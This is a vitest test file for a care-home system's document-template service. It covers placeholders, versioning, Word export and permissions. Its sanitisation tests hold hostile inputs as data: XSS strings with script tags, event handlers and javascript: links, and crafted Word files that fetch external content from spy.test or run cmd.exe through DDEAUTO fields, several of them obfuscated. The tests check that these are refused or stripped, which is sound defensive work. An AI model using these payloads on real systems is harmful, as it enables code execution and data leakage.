import { strFromU8, unzipSync } from 'fflate'
import { beforeAll, describe, expect, test } from 'vitest'
import { documentTemplate as contract } from '#contract/modules/platform/document/document.ts'
import { file } from '#contract/modules/platform/file/file.ts'
import type { Client } from '../../../../test/app.ts'
import { makeResident, makeRole } from '../../../../test/factories.ts'
import { enters, hosted } from '../../../../test/hosted.ts'
import { docx, noisy, pdf, sendForm } from '../file/test-forms.ts'
import { takeTemplate, templateVersionOf, wordFor } from './service.ts'

const t = hosted()
const admin = enters(t, 'ADMIN')
let oldmanId: string
const oldmanName = '王<秀>英&'
beforeAll(async () => {
  oldmanId = (await makeResident(t, { oldmanName, birthDate: '1940-03-05' })).oldmanId
  await t.db((db) =>
    db
      .insertInto('templateType')
      .values([
        { orgId: t.orgId, typeId: 'type-1', typeName: '入住协议', category: 1, sort: 1 },
        { orgId: t.orgId, typeId: 'type-2', typeName: '知情告知', category: 2, sort: 2 },
      ])
      .execute(),
  )
})

let serial = 0
const input = (more: object = {}) => {
  serial += 1
  return { templateName: `协议${serial}`, typeId: 'type-1', content: '<p>老人：{{oldmanName}}</p>', ...more }
}
const create = (more: object = {}, client = admin) => client.call(contract.templateCreate, input(more))
const picture = async () =>
  (await sendForm(t, file.uploadCommon, { name: 'a.png', content: await noisy().png().toBuffer(), client: admin })).data
const word = async (text: string, more?: Record<string, Uint8Array>) =>
  (await sendForm(t, file.uploadStream, { name: '协议.docx', content: docx(text, more), client: admin })).data.urlPath
const partOf = (data: unknown, name: string) => strFromU8(unzipSync(new Uint8Array(data as Buffer))[name]) // as: a file answer
const textOf = (data: unknown) => partOf(data, 'word/document.xml').replace(/<[^>]+>/g, '')
const download = (templateId: string, client = admin) => client.ok(contract.templateDocument, { templateId, oldmanId })

describe('writing', () => {
  test('names the placeholders of a template, and lists show it without its text', async () => {
    const { data } = await create({ content: '<h1>协议</h1><p>{{oldmanName}} {{bedName}} {{oldmanName}}</p>' })
    expect(data).toMatchObject({ placeholders: ['oldmanName', 'bedName'], placeholderCount: 2, contentVersion: 1 })
    expect(data).toMatchObject({ typeName: '入住协议', category: 1, status: 1, pageSize: 'A4', usedCount: 0 })
    const { list } = await admin.ok(contract.templateList, { templateName: data.templateName })
    expect(list).toMatchObject([{ templateId: data.templateId, placeholderCount: 2, updateByName: 'ADMIN用户' }])
    expect(list[0]).not.toHaveProperty('content')
  })

  test('scenario 28: an unknown placeholder is refused by name', async () => {
    const answer = await create({ content: '<p>{{oldmanNmae}}</p>' })
    expect(answer).toMatchObject({
      code: 31083,
      msg: '存在未知占位符：oldmanNmae',
      data: { errors: [{ field: 'content' }] },
    })
    expect((await create({ content: '<p>{{oldman<strong>Name}}</strong></p>' })).code).toBe(31083)
  })

  test('removes scripts and pictures from other sites', async () => {
    const { imagePath, fileId } = await picture()
    const evil = [
      '<script>alert(1)</script><p onclick="alert(1)" style="position:fixed;color:#ff0000">正文</p>',
      '<img src="https://spy.test/a.png"><img src="x" onerror="alert(1)"><a href="javascript:alert(1)">链接</a>',
      '<iframe src="/"></iframe><svg><script>alert(1)</script></svg><style>p{}</style><math><mi xlink:href="javascript:1">',
      `<img src="${imagePath}" onload="alert(1)" alt="章">`,
    ].join('')
    const { data } = await create({ content: evil })
    const { content } = await admin.ok(contract.templateGet, { templateId: data.templateId })
    expect(content).not.toMatch(/script|onclick|onerror|onload|javascript|spy\.test|iframe|svg|position|<a|math/)
    expect(content).toContain('<p style="color:#ff0000">正文</p>')
    expect(content).toContain(`src="/files/${fileId}?t=`)
    const stored = await t.db((db) =>
      db
        .selectFrom('documentTemplate')
        .select('content')
        .where('templateId', '=', data.templateId)
        .executeTakeFirstOrThrow(),
    )
    expect(stored.content).toContain(`src="/files/${fileId}"`)
  })

  test('refuses an empty template, and a picture of another user', async () => {
    expect((await create({ content: '<p> </p><script>1</script>' })).code).toBe(21001)
    const other = await t.as('ADMIN')
    const { imagePath } = await picture()
    expect((await create({ content: `<img src="${imagePath}">` }, other)).code).toBe(21010)
  })

  test('refuses a used name, an unknown type and a stale version', async () => {
    const { data } = await create()
    expect(await create({ templateName: data.templateName })).toMatchObject({ code: 21007, msg: '模板名称已存在' })
    expect((await create({ typeId: 'none' })).code).toBe(21003)
    const edit = (more: object) => admin.call(contract.templateUpdate, { templateId: data.templateId, ...more })
    expect((await edit({ status: 0, version: 1 })).data).toMatchObject({ status: 0, version: 2, contentVersion: 1 })
    expect((await edit({ status: 1, version: 1 })).code).toBe(21002)
  })

  test('filters by name, type, category and status', async () => {
    const { data } = await create({ typeId: 'type-2', status: 0 })
    const ids = async (query: object) =>
      (await admin.ok(contract.templateList, { ...query, size: 200 })).list.map((row) => row.templateId)
    for (const query of [{ typeId: 'type-2' }, { category: 2 }, { status: 0 }])
      expect(await ids(query)).toContain(data.templateId)
    for (const query of [{ typeId: 'type-1' }, { category: 1 }, { status: 1 }, { category: 8 }])
      expect(await ids(query)).not.toContain(data.templateId)
    const types = await admin.ok(contract.templateTypes)
    expect(types).toEqual(
      expect.arrayContaining([
        { typeId: 'type-1', typeName: '入住协议', category: 1 },
        expect.objectContaining({ typeId: 'type-2' }),
      ]),
    )
  })
})

describe('copies, versions and removal', () => {
  test('names a copy with -副本; it keeps its picture when the original is removed', async () => {
    const { imagePath } = await picture()
    const { data } = await create({ content: `<p>{{today}}</p><img src="${imagePath}">` })
    const copy = (await admin.call(contract.templateCopy, { templateId: data.templateId })).data
    expect(copy).toMatchObject({ templateName: `${data.templateName}-副本`, placeholders: ['today'], usedCount: 0 })
    const again = (await admin.call(contract.templateCopy, { templateId: data.templateId })).data
    expect(again.templateName).toBe(`${data.templateName}-副本2`)
    await admin.ok(contract.templateDelete, { templateId: data.templateId })
    const bound = await t.db((db) =>
      db.selectFrom('file').select('bound').where('bizId', '=', copy.templateId).execute(),
    )
    expect(bound).toEqual([{ bound: 1 }])
    const src = /src="([^"]+)"/.exec(copy.content)?.[1] ?? ''
    expect((await t.app.inject({ method: 'GET', url: src })).headers['content-type']).toBe('image/png')
  })

  test('changing a used template makes version 2; its documents keep version 1', async () => {
    const { data } = await create({ content: '<p>第一版 {{oldmanName}}</p>' })
    const { templateId } = data
    const snapshot = await t.db((db) => takeTemplate(db, t.who(), templateId))
    expect(snapshot).toEqual({ templateId, contentVersion: 1 })
    const edit = async (content: string, version: number) =>
      (await admin.call(contract.templateUpdate, { templateId, content, version })).data
    expect(await edit('<p>第二版 {{oldmanName}}</p>', 1)).toMatchObject({ contentVersion: 2, usedCount: 0 })
    expect(await edit('<p>第二版改 {{oldmanName}}</p>', 2)).toMatchObject({ contentVersion: 2 })
    const ctx = <T>(work: (db: Parameters<Parameters<typeof t.db>[0]>[0]) => Promise<T>) => t.db(work)
    const old = await ctx((db) => templateVersionOf(db, t.who(), snapshot))
    expect(old.content).toBe('<p>第一版 {{oldmanName}}</p>')
    const paper = await ctx((db) =>
      wordFor({ db, who: t.who(), services: t.services }, old, oldmanId, { monthFee: 480_000 }),
    )
    expect(textOf(paper)).toContain('第一版')
    expect(await admin.call(contract.templateDelete, { templateId })).toMatchObject({ code: 21008 })
    await admin.ok(contract.templateUpdate, { templateId, status: 0, version: 3 })
    await expect(ctx((db) => takeTemplate(db, t.who(), templateId))).rejects.toThrow('当前状态“停用”不允许此操作')
  })

  test('does not find a removed template or one of another organisation', async () => {
    const { data } = await create()
    const other = await t.as('ADMIN', { orgId: await t.otherOrg() })
    for (const call of [contract.templateGet, contract.templateDelete])
      expect((await other.call(call, { templateId: data.templateId })).code).toBe(21003)
    await admin.ok(contract.templateDelete, { templateId: data.templateId })
    expect((await admin.call(contract.templateGet, { templateId: data.templateId })).code).toBe(21003)
  })
})

describe('filling in', () => {
  test('a preview shows a resident, escapes the name and lists missing values', async () => {
    const content = '<p>{{oldmanName}}，{{age}}岁，家属{{familyName}}，月费{{monthFee}}，{{today}}</p>'
    const { data } = await admin.call(contract.templatePreview, { oldmanId, content })
    expect(data.html).toContain('王&lt;秀&gt;英&amp;，85岁，家属王小明')
    expect(data.html).toContain('2025年6月10日')
    expect(data.missing).toEqual(['月费（元）'])
    const sample = await admin.ok(contract.templatePreview, { content })
    expect(sample.html).toContain('王秀英，86岁')
    expect((await admin.call(contract.templatePreview, { content: '{{x}}' })).code).toBe(31083)
    expect((await admin.call(contract.templatePreview, { oldmanId: 'nobody', content })).code).toBe(21003)
  })

  test('the Word file of rich text has text, table, list, picture and paper size', async () => {
    const { imagePath } = await picture()
    const content = `<h1 style="text-align: center">入住协议</h1><p><strong>老人：</strong>{{oldmanName}}</p>
      <table><tbody><tr><th>项目</th><th colspan="2">金额</th></tr><tr><td rowspan="2">床位</td><td>{{monthFee}}</td><td>元</td></tr><tr><td>a</td><td>b</td></tr></tbody></table>
      <ol><li><p>第一条</p></li></ol><ul><li><p>附件</p></li></ul><blockquote><p>说明</p></blockquote><hr><img src="${imagePath}" width="120">`
    const { data } = await create({ content, pageSize: 'A4L' })
    const paper = await download(data.templateId)
    const xml = partOf(paper, 'word/document.xml')
    expect(textOf(paper)).toContain('老人：王&lt;秀&gt;英&amp;')
    for (const part of ['<w:tbl>', 'w:gridSpan w:val="2"', 'w:vMerge', '<w:numPr>', '<a:blip', 'w:orient="landscape"'])
      expect(xml, part).toContain(part)
    expect(partOf(paper, 'word/styles.xml')).toContain('宋体')
  })

  test('fills a Word template in place, also where Word has split the placeholder into pieces', async () => {
    const content = await word('甲方：{{orgName}}\n乙方：{{old|man|Name}}，月费{{monthFee}}')
    const { data } = await create({ content, source: 2 })
    expect(data).toMatchObject({
      fileName: '协议.docx',
      placeholders: ['orgName', 'oldmanName', 'monthFee'],
      source: 2,
    })
    const text = textOf(await download(data.templateId))
    expect(text).toContain('甲方：测试养老院')
    expect(text).toContain('乙方：王&lt;秀&gt;英&amp;，月费＿＿')
    const copy = (await admin.call(contract.templateCopy, { templateId: data.templateId })).data
    await admin.ok(contract.templateDelete, { templateId: data.templateId })
    expect(textOf(await download(copy.templateId))).toContain('测试养老院')
  })

  test.each([
    ['an unknown placeholder', '{{oldmanNmae}}', 31083],
    ['half a placeholder', '{{oldmanName', 31083],
    ['raw text', '{{@oldmanName}}', 31083],
    ['a loop', '{{#oldmanName}}x{{/oldmanName}}', 31083],
  ])('refuses a Word file with %s', async (_, text, code) => {
    expect((await create({ content: await word(text), source: 2 })).code).toBe(code)
  })

  test('refuses a Word file that fetches content, and a file that is no Word file', async () => {
    const rels = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://spy.test/t.dotm" TargetMode="External"/></Relationships>`
    const content = await word('{{today}}', { 'word/_rels/settings.xml.rels': new TextEncoder().encode(rels) })
    expect((await create({ content, source: 2 })).code).toBe(21010)
    const paper = (await sendForm(t, file.uploadStream, { name: 'a.pdf', content: pdf(), client: admin })).data
    expect((await create({ content: paper.urlPath, source: 2 })).code).toBe(21010)
    expect((await create({ content: '<p>x</p>', source: 2 })).code).toBe(21010)
  })
})

describe('refuses a Word file that fetches content in any notation', () => {
  const relation = (attributes: string, before = '') =>
    `${before}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" ${attributes}/></Relationships>`
  const kind = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
  const target = 'Target="https://spy.test/t.dotm"'
  const rels = (text: string) => ({ 'word/_rels/settings.xml.rels': Buffer.from(text) })
  const header = (runs: string) => ({
    'word/header9.xml': Buffer.from(
      `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>${runs}</w:p></w:hdr>`,
    ),
  })
  const run = (inner: string) => `<w:r>${inner}</w:r>`
  const field = (...words: string[]) =>
    header(
      [
        run('<w:fldChar w:fldCharType="begin"/>'),
        ...words.map((word) => run(`<w:instrText xml:space="preserve">${word}</w:instrText>`)),
        run('<w:fldChar w:fldCharType="end"/>'),
      ].join(''),
    )

  test.each([
    ['by an entity of XML', rels(relation(`${kind} ${target} TargetMode="&#69;xternal"`))],
    [
      'by an entity of its own',
      rels(relation(`${kind} ${target} TargetMode="&e;"`, '<!DOCTYPE r [<!ENTITY e "External">]>')),
    ],
    [
      'with a prefix',
      rels(relation(`${kind} ${target} TargetMode="External"`).replaceAll('<R', '<p:R').replaceAll('</R', '</p:R')),
    ],
    [
      'in another encoding',
      {
        'word/_rels/settings.xml.rels': Buffer.from(relation(`${kind} ${target} TargetMode="External"`), 'utf16le'),
      },
    ],
    [
      'by a page laid into it',
      rels(
        relation(
          'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="page.html"',
        ),
      ),
    ],
    ['by DDEAUTO', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
    ['by DDEAUTO in two runs', field(' DDE', 'AUTO cmd ')],
    ['by INCLUDEPICTURE', field(' includepicture "https://spy.test/p.png" \\d ')],
    ['by a simple field', header('<w:fldSimple w:instr=" INCLUDETEXT &quot;https://spy.test/x.docx&quot; "/>')],
  ])('is refused: %s', async (_, more) => {
    const content = await word('{{today}}', more)
    expect((await create({ content, source: 2 })).code).toBe(21010)
  })

  test('accepts a link, the page number and a date', async () => {
    const link =
      'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://pims.example/" TargetMode="External"'
    for (const more of [
      rels(relation(link)),
      field(' PAGE '),
      field(' DATE \\@ "yyyy" '),
      field(' HYPERLINK "https://pims.example" '),
    ])
      expect((await create({ content: await word('{{today}}', more), source: 2 })).code).toBe(0)
  })
})

describe('permission', () => {
  const houseCodes = ['query', 'add', 'edit', 'copy', 'delete'].map((end) => `systemSetting.templateDocument.${end}`)

  test('home-care templates have a page of their own', async () => {
    await makeRole(t, 'HOUSE', houseCodes)
    const house = await t.as('HOUSE')
    const home = (await create({ home: 1 })).data
    expect((await admin.ok(contract.templateList, { category: 8 })).list).toMatchObject([
      { templateId: home.templateId },
    ])
    const { templateId } = home
    for (const answer of [
      await house.call(contract.templateList, { category: 8 }),
      await create({ home: 1 }, house),
      await house.call(contract.templateGet, { templateId }),
      await house.call(contract.templateUpdate, { templateId, status: 0, version: 1 }),
      await house.call(contract.templateCopy, { templateId }),
      await house.call(contract.templateDelete, { templateId }),
    ])
      expect(answer.code).toBe(401)
    expect((await create({}, house)).code).toBe(0)
  })

  test('shows whole ID card numbers only to users who may read them', async () => {
    await makeRole(t, 'WRITER', houseCodes)
    const content = '<p>{{oldmanIdCard}}</p><p>{{birthDate}}</p>'
    const seen = async (client: Client) => (await client.ok(contract.templatePreview, { oldmanId, content })).html
    expect(await seen(await t.as('WRITER'))).toMatch(/<p>\*{16}\d[\dX]<\/p><p>1940年3月<\/p>/)
    expect(await seen(admin)).toMatch(/<p>\d{17}[\dX]<\/p><p>1940年3月5日<\/p>/)
  })
})
